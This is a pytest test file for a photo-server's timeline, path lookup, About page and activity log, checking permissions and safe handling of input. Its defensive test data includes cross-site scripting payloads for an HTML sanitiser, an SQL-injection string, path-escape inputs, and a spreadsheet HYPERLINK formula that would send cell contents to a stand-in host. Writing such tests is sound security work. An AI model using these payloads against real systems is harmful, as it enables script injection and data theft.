"""The time line, paths of pages, the address from outside, the About page, and the log."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import pytest

from albumen import wire
from albumen.catalog import logs
from albumen.station.cleaning import clean_html
from tests import makers
from tests.station.test_hostile import OUTSIDE, hexed
from tests.station.world import HARBOUR, PHOTO, Caller, logged_in, photo, running, write

YEAR, HARBOUR_ID = wire.album_id("2024"), wire.album_id(HARBOUR)


def test_the_time_line_counts_items_by_year_month_and_day(mira: Caller, root: Path) -> None:
    write(root / "2024/a.jpg", makers.jpeg(datetime(2024, 5, 1), seed=81))
    mira.library.scan()
    found = mira.data("Timeline.getindex", unit="month")
    assert found["spans"][:2] == [
        {"date": "2024-07", "photo": 1, "video": 1},
        {"date": "2024-05", "photo": 1, "video": 0},
    ]
    assert found["total"] == sum(one["photo"] + one["video"] for one in found["spans"]) == 8
    assert [one["date"] for one in mira.data("Timeline.getindex", unit="year")["spans"]] == [
        "2024",
        "2023",
        "2022",
        "2021",
    ]
    day = mira.data("Timeline.getindex", unit="day", filter_album=YEAR, type="photo")
    assert [one["date"] for one in day["spans"]] == ["2024-07-21", "2024-05-01"]
    listed = mira.data(
        "Photo.list", offset=0, limit=-1, type="photo,video", taken_date="2024-07-01,2024-07-31"
    )
    assert listed["total"] == 2


def test_the_time_line_of_a_visitor_is_of_what_is_public(visitor: Caller) -> None:
    assert visitor.data("Timeline.getindex")["spans"] == [{"date": "2022-05", "photo": 1, "video": 0}]
    assert visitor.code("Timeline.getindex", filter_album=YEAR) == 105
    assert visitor.code("Timeline.getindex", filter_album=wire.album_id("Locked")) == 105


def test_a_path_and_its_page_lead_back_to_each_other(mira: Caller) -> None:
    item = photo(HARBOUR, PHOTO)
    album, one, root = mira.data("Path.getpath", id=f"{HARBOUR_ID},{item},album_")["items"]
    assert (album["path"], one["path"], root["path"]) == (HARBOUR, f"{HARBOUR}/{PHOTO}", "")
    assert one["token"] == f"Albums/{YEAR}/{HARBOUR_ID}/{item}" and root["token"] == "Albums"
    way = mira.data("Path.checkpath", token=one["token"], additional="album_permission")["items"]
    assert [step["id"] for step in way] == [YEAR, HARBOUR_ID, item]
    assert way[0]["additional"]["album_permission"]["manage"]
    assert mira.data("Path.checkpath", token="Albums/")["items"] == []


@pytest.mark.parametrize(
    "token",
    [
        HARBOUR_ID,
        f"Albums/{HARBOUR_ID}",
        f"Albums/{YEAR}/{wire.album_id('2023')}",
        f"Albums/{YEAR}/{photo(HARBOUR, PHOTO)}",
        f"Albums/{YEAR}/{HARBOUR_ID}/{photo(HARBOUR, PHOTO)}/{photo(HARBOUR, PHOTO)}",
        f"Albums/{wire.album_id('1999')}",
        f"Albums/album_/{YEAR}",
        "SmartAlbums/x",
    ],
)
def test_a_page_that_is_nowhere_is_refused(mira: Caller, token: str) -> None:
    assert mira.code("Path.checkpath", token=token) == 566


def test_paths_of_what_a_visitor_may_not_see_are_not_told(visitor: Caller) -> None:
    for album in ("2024", "Locked", "Open/Closed", "1999"):
        assert visitor.code("Path.getpath", id=wire.album_id(album)) == 566
        assert visitor.code("Path.getpath", id=photo(album, "x.jpg")) == 566
    closed = f"Albums/{wire.album_id('Open')}/{wire.album_id('Open/Closed')}"
    assert visitor.code("Path.checkpath", token=closed) == 566
    assert visitor.data("Path.getpath", id=photo("Open", "seen.jpg"))["items"][0]["path"] == "Open/seen.jpg"


@pytest.mark.parametrize("path", OUTSIDE, ids=ascii)
def test_no_path_leads_out(mira: Caller, path: str) -> None:
    album, item = f"album_{hexed(path)}", f"photo_{hexed(path)}_{hexed('secret.jpg')}"
    codes = [
        *(mira.code("Path.getpath", id=one) for one in (album, item)),
        *(mira.code("Path.checkpath", token=f"Albums/{one}") for one in (album, item, path)),
        *(mira.code("Timeline.getindex", filter_album=one) for one in (album, path)),
    ]
    assert set(codes).isdisjoint({0, 100}), codes


def test_the_address_from_outside_is_the_configured_one(mira: Caller, root: Path) -> None:
    assert mira.data("Station.getexternalip", version=2) == {"external_host_external_ip": ""}
    mira.library.vault.close()
    with running(root, external_host="https://photos.example.net/photo") as caller:
        told = caller.data("Station.getexternalip", version=2)
        assert told == {"external_host_external_ip": "https://photos.example.net/photo"}
        assert caller.data("Station.getinfo")["external_host"] == "https://photos.example.net/photo"


def test_the_about_page_is_written_hidden_and_renamed(mira: Caller, visitor: Caller) -> None:
    built_in = visitor.data("About.get")
    assert built_in["html"] and not built_in["has_content"]
    mira.data("About.set", html="<p>We like <b>boats</b>.</p>")
    assert visitor.data("About.get") == {"html": "<p>We like <b>boats</b>.</p>", "has_content": True}
    mira.data("About.set_visibility", hidden="true", title="About us")
    assert visitor.data("About.get") == {"html": "", "has_content": False}
    about = visitor.data("Station.getinfo")
    assert (about["about_me_title"], about["disable_aboutme"]) == ("About us", True)
    mira.data("About.set_visibility", hidden="false")
    assert visitor.data("About.get")["has_content"]
    assert visitor.data("Station.getinfo")["about_me_title"] == "About us"


def test_only_an_administrator_writes_about(jon: Caller, visitor: Caller) -> None:
    for caller in (jon, visitor):
        assert caller.code("About.set", html="x") == 105
        assert caller.code("About.set_visibility", hidden="true") == 105
    assert not visitor.data("About.get")["has_content"]


@pytest.mark.parametrize(
    ("dirty", "clean"),
    [
        ("<script>alert(1)</script>a", "a"),
        ("<SCRIPT SRC=//x.example>a</SCRIPT>b", "b"),
        ("<img src=x onerror=alert(1)>b", "b"),
        ('<p onclick="x()" style="position:fixed">a', "<p>a</p>"),
        ('<a href="javascript:alert(1)">a</a>', "<a>a</a>"),
        ('<a href=" JaVa\tScript:alert(1)">a</a>', "<a>a</a>"),
        ('<a href="&#106;avascript:alert(1)">a</a>', "<a>a</a>"),
        ('<a href="data:text/html,x">a</a>', "<a>a</a>"),
        (
            '<a href="https://x.example/?a=1&b=%22">a</a>',
            '<a href="https://x.example/?a=1&amp;b=%22" rel="noopener noreferrer nofollow">a</a>',
        ),
        ("<svg><script>alert(1)</script></svg>a", "a"),
        ("<iframe src=x></iframe><link rel=x><meta><base href=x><form><input>a", "a"),
        ("<<b>script>a", "&lt;<b>script&gt;a</b>"),
        ("<b><i>a</b>c</i>", "<b><i>a</i></b>c"),
        ("5 < 6 & 7", "5 &lt; 6 &amp; 7"),
        ("&lt;script&gt;", "&lt;script&gt;"),
        ("<style>*{background:url(//x)}</style><textarea><img onerror=x></textarea>a", "a"),
        ("</p></div>a<br/>", "a<br>"),
    ],
)
def test_nothing_that_runs_or_loads_gets_through(dirty: str, clean: str) -> None:
    assert clean_html(dirty) == clean
    assert clean_html(clean) == clean


def test_what_is_kept_of_the_about_page_is_clean(mira: Caller, visitor: Caller) -> None:
    mira.data("About.set", html="<p>Hi<script>alert(1)</script></p>")
    assert visitor.data("About.get")["html"] == "<p>Hi</p>"
    assert mira.code("About.set", html="x" * 200_001) == 101


def test_changes_are_in_the_log_and_what_only_reads_is_not(mira: Caller, jon: Caller) -> None:
    mira.data("Album.create", id=YEAR, name="Lake")
    jon.data("Photo.edit", id=photo(HARBOUR, PHOTO), title="secret words")
    mira.names()
    assert jon.code("Album.create", id=YEAR, name="Lake") == 421
    page = mira.data("PhotoLog.list", offset=0, limit=-1)
    assert page["total"] == page["offset"] == 2
    newest, oldest = page["logs"]
    assert (newest["user"], newest["event"]) == ("jon", "Photo.edit")
    assert newest["log"] == f"id: {HARBOUR}/{PHOTO}"
    assert (oldest["user"], oldest["event"], oldest["log"]) == (
        "mira",
        "Album.create",
        "id: 2024; name: Lake",
    )
    assert oldest["address"] == "testclient"


def test_the_log_is_searched_and_paged(mira: Caller, jon: Caller) -> None:
    for name in ("a", "b", "100%"):
        mira.data("Album.create", name=name)
    jon.data("Album.create", name="d")
    first = mira.data("PhotoLog.list", offset=0, limit=3)
    assert (first["total"], first["offset"], len(first["logs"])) == (4, 3, 3)
    assert mira.data("PhotoLog.list", offset=0, limit=-1, user="jon")["total"] == 1
    assert mira.data("PhotoLog.list", offset=0, limit=-1, keyword="100%")["total"] == 1
    for text in ("%", "' OR 1=1 --", "_"):
        assert mira.data("PhotoLog.list", offset=0, limit=-1, keyword=text)["total"] == (text == "%")
        assert mira.data("PhotoLog.list", offset=0, limit=-1, user=text)["total"] == 0


def test_a_cleared_log_says_who_cleared_it(mira: Caller) -> None:
    mira.data("Album.create", name="a")
    mira.data("PhotoLog.clear")
    (line,) = mira.data("PhotoLog.list", offset=0, limit=-1)["logs"]
    assert (line["user"], line["event"]) == ("mira", "PhotoLog.clear")


def test_the_exported_log_computes_nothing_in_a_spreadsheet(mira: Caller) -> None:
    hostile = '=HYPERLINK("http://x.example?"&A1,"a")\n"x",y'
    logs.note(mira.library.catalog, user="+jon", address="@x", event="Album.create", words=hostile)
    answer = mira.get("PhotoLog.export")
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment")
    head, line = csv.reader(io.StringIO(answer.text, newline=""))
    assert head == ["date", "user", "address", "event", "log"]
    assert line[1:] == ["'+jon", "'@x", "Album.create", f"'{hostile}"]


def test_the_log_forgets_the_oldest_lines(mira: Caller, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(logs, "MOST_LINES", 2)
    for name in "abc":
        mira.data("Album.create", name=name)
    assert [one["log"] for one in mira.data("PhotoLog.list", offset=0, limit=-1)["logs"]] == [
        "name: c",
        "name: b",
    ]


def test_only_an_administrator_reads_the_log(jon: Caller, visitor: Caller) -> None:
    for called, fields in (("list", {"offset": 0, "limit": 1}), ("clear", {}), ("export", {})):
        assert visitor.code(f"PhotoLog.{called}", **fields) == 105
        assert jon.code(f"PhotoLog.{called}", **fields) == 561
    assert logged_in(visitor).data("PhotoLog.list", offset=0, limit=1)["total"] == 0
